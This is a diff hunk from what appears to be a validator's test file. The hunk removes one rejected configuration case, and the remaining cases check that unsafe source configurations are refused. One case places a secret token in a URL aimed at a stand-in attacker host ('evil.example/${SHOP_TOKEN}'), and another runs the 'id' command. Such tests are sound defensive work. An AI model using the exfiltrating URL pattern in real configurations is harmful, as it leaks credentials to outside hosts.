@@ -314,7 +314,6 @@ WEB = {"name": "x", "type": "http", "url": "http://127.0.0.1/"}
         ({"name": "x", "type": "command", "command": "id"}, "type = 'command' can run code"),
         ({"name": "x", "type": "function", "call": PROBE}, "can run code on the polling"),
         ({"name": "x", "type": "sql", "url": "sqlite:///x", "query": "select 1"}, "can run code"),
-        ({**WEB, "put": "sqlite:///jobs.db"}, "put starts jobs"),
         ({**WEB, "url": "http://evil.example/${SHOP_TOKEN}"}, "may not use .* SHOP_TOKEN"),
         ({**WEB, "group": "shop"}, "may not use the environment variable SHOP_TOKEN"),
         ({**WEB, "url": "http://a/${OPEN_KEY}"}, "environment variable OPEN_KEY is not set"),
